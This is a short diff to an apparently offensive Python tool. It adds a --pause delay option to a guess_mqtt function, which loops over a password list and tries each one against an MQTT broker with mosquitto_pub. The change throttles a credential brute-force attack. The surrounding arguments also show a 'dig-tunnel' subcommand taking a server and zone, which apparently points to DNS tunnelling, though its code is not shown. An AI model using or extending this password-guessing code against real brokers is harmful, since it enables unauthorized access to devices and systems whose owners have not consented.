@@ -369,6 +369,7 @@ def guess_mqtt(args) -> int:
     for word in words:
         subprocess.run(["mosquitto_pub", "-h", args.host, "-u", args.user, "-P", word, "-t", "cmd/ping",
                         "-m", "1", "--quiet"], capture_output=True, timeout=5)
+        time.sleep(args.pause)
     return 0
 
 
@@ -452,6 +453,7 @@ def main(argv=None) -> int:
     g.add_argument("--user", required=True)
     g.add_argument("--passwords", required=True)
     g.add_argument("--max", type=int, default=60)
+    g.add_argument("--pause", type=float, default=0.1)
     t = sub.add_parser("dig-tunnel")
     t.add_argument("--server", required=True)
     t.add_argument("--zone", required=True)
